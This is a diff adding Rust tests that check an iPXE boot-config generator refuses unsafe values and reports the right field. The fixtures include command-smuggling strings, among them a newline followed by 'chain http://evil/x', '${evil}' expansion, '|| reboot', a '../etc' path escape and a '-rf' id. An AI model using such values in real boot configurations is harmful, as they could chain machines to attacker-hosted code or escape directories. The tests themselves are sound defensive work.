@@ -1,0 +1,354 @@
+//! Values iPXE would misread, malformed addresses and ids, oversize values: each is refused
+//! with the right error kind, naming the right field (and node).
+
+use ipxegen_core::{ErrorKind, Field, Site};
+
+const NODE: &str = r#"{"id": "n1", "nics": ["52:54:00:12:34:56"], "mode": "deploy", "kernel": "/k", "ramdisk": "/r"}"#;
+
+/// A site with `site_extra` members added to a valid site, and one node (`node`).
+fn site(site_extra: &str, node: &str) -> String {
+    format!(
+        r#"{{"schema": 1, "http_server": "192.0.2.1", "http_root": "/srv"{site_extra}, "nodes": [{node}]}}"#
+    )
+}
+
+/// The valid node with `member` added (a later key of the same name is refused as a
+/// duplicate, so members the base node has are replaced instead).
+fn node_with(member: &str) -> String {
+    let key = member.split('"').nth(1).unwrap_or_default();
+    let base: serde_like::Members = serde_like::parse(NODE);
+    let mut parts: Vec<String> = base
+        .into_iter()
+        .filter(|(k, _)| k != key)
+        .map(|(k, v)| format!("\"{k}\": {v}"))
+        .collect();
+    parts.push(member.to_string());
+    format!("{{{}}}", parts.join(", "))
+}
+
+/// A tiny splitter for the flat test node above (no nested commas in its values but `nics`).
+mod serde_like {
+    pub type Members = Vec<(String, String)>;
+    pub fn parse(object: &str) -> Members {
+        let inner = object.trim().trim_start_matches('{').trim_end_matches('}');
+        let mut out = Vec::new();
+        let mut depth = 0;
+        let mut start = 0;
+        let bytes = inner.as_bytes();
+        for (i, &b) in bytes.iter().enumerate() {
+            match b {
+                b'[' | b'{' => depth += 1,
+                b']' | b'}' => depth -= 1,
+                b',' if depth == 0 => {
+                    out.push(split(&inner[start..i]));
+                    start = i + 1;
+                }
+                _ => {}
+            }
+        }
+        out.push(split(&inner[start..]));
+        out
+    }
+    fn split(member: &str) -> (String, String) {
+        let (k, v) = member.split_once(":").unwrap_or((member, ""));
+        (k.trim().trim_matches('"').to_string(), v.trim().to_string())
+    }
+}
+
+struct Case {
+    what: &'static str,
+    doc: String,
+    kind: ErrorKind,
+    field: Field,
+    node: Option<u32>,
+}
+
+fn site_case(what: &'static str, member: &str, kind: ErrorKind, field: Field) -> Case {
+    let mut doc = site(&format!(", {member}"), NODE);
+    if member.starts_with(r#""http_server""#) {
+        doc = doc.replacen(r#""http_server": "192.0.2.1", "#, "", 1);
+    }
+    Case {
+        what,
+        doc,
+        kind,
+        field,
+        node: None,
+    }
+}
+
+fn node_case(what: &'static str, member: &str, kind: ErrorKind, field: Field) -> Case {
+    Case {
+        what,
+        doc: site("", &node_with(member)),
+        kind,
+        field,
+        node: Some(0),
+    }
+}
+
+fn first_error(doc: &str) -> Option<ipxegen_core::Error> {
+    match Site::parse(doc.as_bytes()) {
+        Err(e) => Some(e),
+        Ok(site) => site.nodes().find_map(Result::err),
+    }
+}
+
+#[test]
+fn hostile_values_are_refused_naming_their_field() {
+    let long_id = "a".repeat(65);
+    let long_args = "x".repeat(1100);
+    let iscsi = |target: &str| format!(r#""mode": "iscsi", "iscsi": [{target}]"#);
+    let iscsi_node = |target: &str| {
+        let mut n = node_with(&iscsi(target));
+        for k in [
+            r#""kernel": "/k", "#,
+            r#", "kernel": "/k""#,
+            r#""ramdisk": "/r", "#,
+            r#", "ramdisk": "/r""#,
+        ] {
+            n = n.replace(k, "");
+        }
+        n
+    };
+    let cases = vec![
+        node_case(
+            "setting expansion in kernel args",
+            r#""kernel_args": "console=ttyS0 ${evil}""#,
+            ErrorKind::Expansion,
+            Field::NodeKernelArgs,
+        ),
+        node_case(
+            "operator in kernel args",
+            r#""kernel_args": "quiet || reboot""#,
+            ErrorKind::Operator,
+            Field::NodeKernelArgs,
+        ),
+        node_case(
+            "newline injecting a command",
+            r#""kernel_args": "quiet\nchain http://evil/x""#,
+            ErrorKind::Whitespace,
+            Field::NodeKernelArgs,
+        ),
+        node_case(
+            "NUL byte in kernel args",
+            r#""kernel_args": "quiet\u0000x""#,
+            ErrorKind::ControlByte,
+            Field::NodeKernelArgs,
+        ),
+        node_case(
+            "backslash line continuation",
+            r#""kernel_args": "quiet\\""#,
+            ErrorKind::Backslash,
+            Field::NodeKernelArgs,
+        ),
+        node_case(
+            "comment token in kernel args",
+            r##""kernel_args": "#rest""##,
+            ErrorKind::LeadingHash,
+            Field::NodeKernelArgs,
+        ),
+        node_case(
+            "initrd= set by hand",
+            r#""kernel_args": "initrd=other""#,
+            ErrorKind::ReservedArgument,
+            Field::NodeKernelArgs,
+        ),
+        node_case(
+            "oversize kernel args",
+            &format!(r#""kernel_args": "{long_args}""#),
+            ErrorKind::TooLong { max: 1024 },
+            Field::NodeKernelArgs,
+        ),
+        node_case(
+            "space in a kernel URL",
+            r#""kernel": "http://x/k ${y}""#,
+            ErrorKind::Whitespace,
+            Field::Kernel,
+        ),
+        node_case(
+            "expansion in a ramdisk URL",
+            r#""ramdisk": "http://x/${y}""#,
+            ErrorKind::Expansion,
+            Field::Ramdisk,
+        ),
+        node_case(
+            "bad percent escape",
+            r#""ramdisk": "ftp://x/%zz""#,
+            ErrorKind::InvalidPercentEncoding,
+            Field::Ramdisk,
+        ),
+        node_case(
+            "id escaping the root",
+            r#""id": "../etc""#,
+            ErrorKind::EscapesRoot,
+            Field::NodeId,
+        ),
+        node_case(
+            "id with a space",
+            r#""id": "a b""#,
+            ErrorKind::Whitespace,
+            Field::NodeId,
+        ),
+        node_case(
+            "id taken as an option",
+            r#""id": "-rf""#,
+            ErrorKind::LeadingDash,
+            Field::NodeId,
+        ),
+        node_case(
+            "malformed UUID",
+            r#""id": "1be26c0b-03f2-4d2e-ae87-c02d7f33c1zz""#,
+            ErrorKind::InvalidUuid,
+            Field::NodeId,
+        ),
+        node_case(
+            "oversize id",
+            &format!(r#""id": "{long_id}""#),
+            ErrorKind::TooLong { max: 64 },
+            Field::NodeId,
+        ),
+        node_case(
+            "short MAC",
+            r#""nics": ["52:54:00:12:34"]"#,
+            ErrorKind::InvalidMac,
+            Field::NicMac,
+        ),
+        node_case(
+            "non-hex MAC",
+            r#""nics": [{"mac": "zz:54:00:12:34:56"}]"#,
+            ErrorKind::InvalidMac,
+            Field::NicMac,
+        ),
+        node_case(
+            "timeout in seconds",
+            r#""timeout_ms": 180"#,
+            ErrorKind::TimeoutNotMilliseconds,
+            Field::NodeTimeoutMs,
+        ),
+        node_case(
+            "field of another mode",
+            r#""iso": "/x.iso""#,
+            ErrorKind::NotForMode,
+            Field::Iso,
+        ),
+        node_case(
+            "unknown mode",
+            r#""mode": "netboot""#,
+            ErrorKind::UnknownValue,
+            Field::Mode,
+        ),
+        site_case(
+            "expansion in http_server",
+            r#""http_server": "http://x/${y}""#,
+            ErrorKind::Expansion,
+            Field::HttpServer,
+        ),
+        site_case(
+            "unsupported scheme",
+            r#""http_server": "gopher://x""#,
+            ErrorKind::UnsupportedScheme,
+            Field::HttpServer,
+        ),
+        site_case(
+            "port out of range",
+            r#""http_server": "http://x:70000""#,
+            ErrorKind::InvalidPort,
+            Field::HttpServer,
+        ),
+        site_case(
+            "bad IPv6 literal",
+            r#""http_server": "[2001:db8::g]""#,
+            ErrorKind::InvalidHost,
+            Field::HttpServer,
+        ),
+        site_case(
+            "per-MAC dir escaping",
+            r#""per_mac_dir": "../x""#,
+            ErrorKind::EscapesRoot,
+            Field::PerMacDir,
+        ),
+        site_case(
+            "script name with a space",
+            r#""ipxe_boot_script": "boot ipxe""#,
+            ErrorKind::Whitespace,
+            Field::IpxeBootScript,
+        ),
+        site_case(
+            "fallback taken as a label",
+            r#""ipxe_fallback_script": ":x""#,
+            ErrorKind::LeadingColon,
+            Field::FallbackScript,
+        ),
+        site_case(
+            "site timeout in seconds",
+            r#""timeout_ms": 30"#,
+            ErrorKind::TimeoutNotMilliseconds,
+            Field::TimeoutMs,
+        ),
+        site_case(
+            "operator in site kernel args",
+            r#""kernel_args": "a ; b""#,
+            ErrorKind::Operator,
+            Field::KernelArgs,
+        ),
+        site_case(
+            "retries out of range",
+            r#""retries": 1000"#,
+            ErrorKind::OutOfRange { min: 0, max: 100 },
+            Field::Retries,
+        ),
+        Case {
+            what: "CHAP secret with a space",
+            doc: site(
+                "",
+                &iscsi_node(
+                    r#"{"server": "192.0.2.3", "iqn": "iqn.2010-04.org.example:x", "username": "u", "password": "a b"}"#,
+                ),
+            ),
+            kind: ErrorKind::Whitespace,
+            field: Field::IscsiPassword,
+            node: Some(0),
+        },
+        Case {
+            what: "malformed target IQN",
+            doc: site(
+                "",
+                &iscsi_node(r#"{"server": "192.0.2.3", "iqn": "target1"}"#),
+            ),
+            kind: ErrorKind::InvalidIqn,
+            field: Field::IscsiIqn,
+            node: Some(0),
+        },
+    ];
+    assert!(cases.len() >= 20);
+    let mut wrong = Vec::new();
+    for case in &cases {
+        let got = first_error(&case.doc);
+        let ok = got.is_some_and(|e| {
+            e.kind == case.kind && e.field == Some(case.field) && e.node == case.node
+        });
+        if !ok {
+            wrong.push(format!("{}: got {got:?}\n  doc: {}", case.what, case.doc));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn unknown_and_duplicate_keys_point_at_the_key() {
+    let doc = site(r#", "http_rot": "/x""#, NODE);
+    let e = first_error(&doc).unwrap();
+    assert_eq!(e.kind, ErrorKind::UnknownField);
+    assert_eq!(
+        e.offset,
+        Some(u32::try_from(doc.find("\"http_rot\"").unwrap()).unwrap())
+    );
+    let doc = site(r#", "http_server": "192.0.2.2""#, NODE);
+    assert_eq!(first_error(&doc).unwrap().kind, ErrorKind::DuplicateField);
+}
+
+#[test]
+fn valid_base_is_accepted() {
+    assert!(first_error(&site("", NODE)).is_none());
+}
